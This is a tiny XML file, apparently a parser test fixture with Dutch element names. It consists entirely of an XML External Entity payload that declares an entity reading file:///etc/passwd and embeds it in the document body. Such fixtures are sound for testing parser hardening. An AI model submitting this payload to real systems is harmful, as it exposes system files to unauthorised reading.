<!DOCTYPE document [<!ENTITY x SYSTEM "file:///etc/passwd">]>

<document titel="A"><deel><alinea>&x;</alinea></deel></document>
